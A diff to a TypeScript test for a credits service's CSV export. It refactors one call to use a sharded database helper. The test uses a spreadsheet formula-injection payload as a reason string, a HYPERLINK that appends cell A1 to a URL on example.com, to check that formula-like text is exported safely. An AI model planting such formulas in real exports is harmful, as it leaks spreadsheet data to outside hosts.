@@ -1,3 +1,4 @@
+import { oneShard } from '@gatehouse/postgres/shards'
 import { randomUUID } from 'node:crypto'
 import { adjustCredits } from '@gatehouse/credits/adjust-credits'
 import { createSystemClock } from '@gatehouse/runtime/clock'
@@ -89,7 +90,7 @@ test('a reason that begins like a formula is exported as text, and a negative am
   const company = await addCompany(backend.database, 5_000_000n)
   const reason = '=HYPERLINK("https://example.com/?"&A1,"refund")'
   const adjustment = { id: ids.uuid(), companyId: company, amountMicros: -2_000_000n, reason }
-  await adjustCredits({ database: backend.database, ids }, adjustment, by)
+  await adjustCredits({ databases: oneShard(backend.database), ids }, adjustment, by)
   const authorization = await authorizationOf({ companyId: company })
   const [header, newest] = await linesOf('transactions', { query: { companyId: company }, authorization })
   expect(header).toBe('id,createdAt,type,credits,balanceAfter,reason')
